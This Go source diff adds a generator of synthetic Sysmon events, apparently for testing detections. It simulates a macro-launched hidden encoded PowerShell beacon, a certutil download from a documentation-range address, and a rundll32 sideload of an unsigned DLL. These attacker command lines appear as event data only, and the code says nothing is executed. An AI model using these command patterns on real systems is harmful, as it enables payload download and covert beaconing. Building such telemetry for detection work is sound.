@@ -0,0 +1,277 @@
+package synth
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net/netip"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// Sysmon event IDs produced by the generator.
+const (
+	SysmonProcessCreate  = 1
+	SysmonNetworkConnect = 3
+	SysmonImageLoad      = 7
+)
+
+// SysmonScenario is an endpoint activity chain to simulate.
+type SysmonScenario string
+
+const (
+	// ScenarioOfficeMacro is a document spawning an encoded PowerShell
+	// command that loads the automation runtime and calls out.
+	ScenarioOfficeMacro SysmonScenario = "office_macro"
+	// ScenarioLOLBinDownload is certutil fetching a file over HTTP.
+	ScenarioLOLBinDownload SysmonScenario = "lolbin_download"
+	// ScenarioRundllSideload is rundll32 loading an unsigned DLL from a
+	// user-writable path and beaconing.
+	ScenarioRundllSideload SysmonScenario = "rundll32_sideload"
+)
+
+const sysmonTimeLayout = "2006-01-02 15:04:05.000"
+
+// SysmonConfig parameterizes Sysmon chain generation.
+type SysmonConfig struct {
+	Scenario SysmonScenario
+	Start    time.Time
+	// Actor selects the identity-set user whose workstation runs the chain.
+	Actor int
+	// TaskID is recorded in each event's RuleName for attribution.
+	TaskID string
+}
+
+// SysmonField is one named EventData value, kept in schema order.
+type SysmonField struct {
+	Name  string
+	Value string
+}
+
+// SysmonEvent is one synthetic Sysmon record. Only telemetry is produced;
+// nothing is executed on any host.
+type SysmonEvent struct {
+	Time     time.Time
+	EventID  int
+	Computer string
+	Data     []SysmonField
+}
+
+// Field returns the value of the named EventData field.
+func (e SysmonEvent) Field(name string) string {
+	for _, f := range e.Data {
+		if f.Name == name {
+			return f.Value
+		}
+	}
+	return ""
+}
+
+// MarshalJSON renders the event as a flat object, the way most agents ship
+// Sysmon records to a SIEM.
+func (e SysmonEvent) MarshalJSON() ([]byte, error) {
+	m := map[string]any{"EventID": e.EventID, "Computer": e.Computer, "Channel": "Microsoft-Windows-Sysmon/Operational"}
+	for _, f := range e.Data {
+		m[f.Name] = f.Value
+	}
+	return json.Marshal(m)
+}
+
+// XML renders the event as exported from the Sysmon operational channel.
+func (e SysmonEvent) XML() ([]byte, error) {
+	ev := evtxEvent{
+		XMLNS: "http://schemas.microsoft.com/win/2004/08/events/event",
+		System: evtxSystem{
+			Provider:    evtxProvider{Name: "Microsoft-Windows-Sysmon"},
+			EventID:     e.EventID,
+			Level:       4,
+			TimeCreated: evtxTime{SystemTime: e.Time.UTC().Format("2006-01-02T15:04:05.0000000Z")},
+			Channel:     "Microsoft-Windows-Sysmon/Operational",
+			Computer:    e.Computer,
+		},
+	}
+	for _, f := range e.Data {
+		ev.Data = append(ev.Data, evtxData{Name: f.Name, Value: f.Value})
+	}
+	return xml.Marshal(ev)
+}
+
+type sysmonProc struct {
+	guid, image, cmd string
+	pid              int
+}
+
+// sysmonChain accumulates events for one scenario, advancing the clock a
+// little between steps so chains read as a plausible sequence.
+type sysmonChain struct {
+	r        *rand.Rand
+	ids      *IdentitySet
+	cfg      SysmonConfig
+	at       time.Time
+	computer string
+	host     Host
+	user     string
+	logon    string
+	events   []SysmonEvent
+}
+
+// SysmonEvents generates a process create, image load, and network connect
+// chain for one scenario on the actor's workstation. Processes share GUIDs
+// and PIDs across events so parent/child and load/connect correlation works
+// as it would for real telemetry. Remote endpoints use RFC 5737 addresses.
+func SysmonEvents(ids *IdentitySet, cfg SysmonConfig) ([]SysmonEvent, error) {
+	if ids == nil {
+		return nil, errors.New("identity set is required")
+	}
+	if cfg.Start.IsZero() {
+		return nil, errors.New("start time is required")
+	}
+	actor := ids.UserAt(cfg.Actor)
+	host, ok := ids.Host(actor.Workstation)
+	if !ok {
+		return nil, fmt.Errorf("workstation %s not in identity set", actor.Workstation)
+	}
+	r := seededRand(fmt.Sprintf("%s/sysmon/%s/%d/%d", ids.Engagement, cfg.Scenario, cfg.Actor, cfg.Start.Unix()))
+	c := &sysmonChain{
+		r: r, ids: ids, cfg: cfg, at: cfg.Start.UTC(),
+		computer: host.Hostname + "." + ids.Domain,
+		host:     host,
+		user:     strings.ToUpper(strings.TrimSuffix(ids.Domain, ".example")) + `\` + actor.Username,
+		logon:    fmt.Sprintf("0x%x", 0x10000+r.IntN(0xfffff)),
+	}
+	remote := netip.AddrFrom4([4]byte{198, 51, 100, byte(r.IntN(254) + 1)})
+	explorer := c.existing(`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`)
+	switch cfg.Scenario {
+	case ScenarioOfficeMacro:
+		word := c.create(explorer, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
+			`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\`+actor.Username+`\Downloads\invoice.docm"`)
+		c.load(word, `C:\Program Files\Common Files\microsoft shared\VBA\VBA7.1\VBE7.DLL`, true)
+		ps := c.create(word, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+			`powershell.exe -NoP -W Hidden -Enc UgBUAEUALQBBAC0AUwBZAE4AVABIAEUAVABJAEMA`)
+		c.load(ps, `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\System.Management.Automation.ni.dll`, true)
+		c.load(ps, `C:\Windows\System32\amsi.dll`, true)
+		c.connect(ps, remote, 443)
+	case ScenarioLOLBinDownload:
+		cmd := c.create(explorer, `C:\Windows\System32\cmd.exe`, `"C:\Windows\System32\cmd.exe"`)
+		cu := c.create(cmd, `C:\Windows\System32\certutil.exe`,
+			fmt.Sprintf(`certutil.exe -urlcache -split -f http://%s/rte-a-synthetic.txt C:\Users\Public\rte-a-synthetic.txt`, remote))
+		c.load(cu, `C:\Windows\System32\cryptnet.dll`, true)
+		c.load(cu, `C:\Windows\System32\winhttp.dll`, true)
+		c.connect(cu, remote, 80)
+	case ScenarioRundllSideload:
+		dll := `C:\Users\` + actor.Username + `\AppData\Local\Temp\rte-a-synthetic.dll`
+		rd := c.create(explorer, `C:\Windows\System32\rundll32.exe`, `rundll32.exe `+dll+`,DllRegisterServer`)
+		c.load(rd, dll, false)
+		c.connect(rd, remote, 8443)
+	default:
+		return nil, fmt.Errorf("unsupported sysmon scenario: %s", cfg.Scenario)
+	}
+	return c.events, nil
+}
+
+// DeliverSysmonEvents renders events as EVTX-style XML lines and sends them
+// to sink.
+func DeliverSysmonEvents(ctx context.Context, sink EventSink, events []SysmonEvent) error {
+	if sink == nil {
+		return errors.New("sink is required")
+	}
+	lines := make([][]byte, 0, len(events))
+	for _, e := range events {
+		b, err := e.XML()
+		if err != nil {
+			return fmt.Errorf("marshal event: %w", err)
+		}
+		lines = append(lines, b)
+	}
+	return sink.Send(ctx, lines)
+}
+
+// existing describes a process that was already running before the chain.
+func (c *sysmonChain) existing(image, cmd string) *sysmonProc {
+	return &sysmonProc{guid: c.guid(), image: image, cmd: cmd, pid: c.pid()}
+}
+
+func (c *sysmonChain) create(parent *sysmonProc, image, cmd string) *sysmonProc {
+	p := &sysmonProc{guid: c.guid(), image: image, cmd: cmd, pid: c.pid()}
+	c.emit(SysmonProcessCreate,
+		SysmonField{"ProcessGuid", p.guid},
+		SysmonField{"ProcessId", strconv.Itoa(p.pid)},
+		SysmonField{"Image", p.image},
+		SysmonField{"CommandLine", p.cmd},
+		SysmonField{"CurrentDirectory", `C:\Users\` + c.ids.UserAt(c.cfg.Actor).Username + `\`},
+		SysmonField{"User", c.user},
+		SysmonField{"LogonId", c.logon},
+		SysmonField{"IntegrityLevel", "Medium"},
+		SysmonField{"Hashes", fakeHashes(c.ids.Engagement, p.image)},
+		SysmonField{"ParentProcessGuid", parent.guid},
+		SysmonField{"ParentProcessId", strconv.Itoa(parent.pid)},
+		SysmonField{"ParentImage", parent.image},
+		SysmonField{"ParentCommandLine", parent.cmd},
+	)
+	return p
+}
+
+func (c *sysmonChain) load(p *sysmonProc, dll string, signed bool) {
+	sig, status := "Microsoft Windows", "Valid"
+	if !signed {
+		sig, status = "", "Unavailable"
+	}
+	c.emit(SysmonImageLoad,
+		SysmonField{"ProcessGuid", p.guid},
+		SysmonField{"ProcessId", strconv.Itoa(p.pid)},
+		SysmonField{"Image", p.image},
+		SysmonField{"ImageLoaded", dll},
+		SysmonField{"Hashes", fakeHashes(c.ids.Engagement, dll)},
+		SysmonField{"Signed", strconv.FormatBool(signed)},
+		SysmonField{"Signature", sig},
+		SysmonField{"SignatureStatus", status},
+		SysmonField{"User", c.user},
+	)
+}
+
+func (c *sysmonChain) connect(p *sysmonProc, dst netip.Addr, port int) {
+	c.emit(SysmonNetworkConnect,
+		SysmonField{"ProcessGuid", p.guid},
+		SysmonField{"ProcessId", strconv.Itoa(p.pid)},
+		SysmonField{"Image", p.image},
+		SysmonField{"User", c.user},
+		SysmonField{"Protocol", "tcp"},
+		SysmonField{"Initiated", "true"},
+		SysmonField{"SourceIsIpv6", "false"},
+		SysmonField{"SourceIp", c.host.IP.String()},
+		SysmonField{"SourceHostname", c.computer},
+		SysmonField{"SourcePort", strconv.Itoa(ephemeralPortLo + c.r.IntN(16000))},
+		SysmonField{"DestinationIsIpv6", "false"},
+		SysmonField{"DestinationIp", dst.String()},
+		SysmonField{"DestinationPort", strconv.Itoa(port)},
+	)
+}
+
+func (c *sysmonChain) emit(id int, fields ...SysmonField) {
+	c.at = c.at.Add(time.Duration(50+c.r.IntN(900)) * time.Millisecond)
+	data := append([]SysmonField{
+		{"RuleName", "rte-a-synthetic:" + c.cfg.TaskID},
+		{"UtcTime", c.at.Format(sysmonTimeLayout)},
+	}, fields...)
+	c.events = append(c.events, SysmonEvent{Time: c.at, EventID: id, Computer: c.computer, Data: data})
+}
+
+func (c *sysmonChain) guid() string {
+	return "{" + strings.ToUpper(fakeUUID(c.r)) + "}"
+}
+
+func (c *sysmonChain) pid() int {
+	return 4 * (250 + c.r.IntN(4000))
+}
+
+// fakeHashes derives a stable, obviously synthetic hash for a file path.
+func fakeHashes(engagement, path string) string {
+	sum := sha256.Sum256([]byte("rte-a/synth/file/" + engagement + "/" + strings.ToLower(path)))
+	return "SHA256=" + strings.ToUpper(hex.EncodeToString(sum[:]))
+}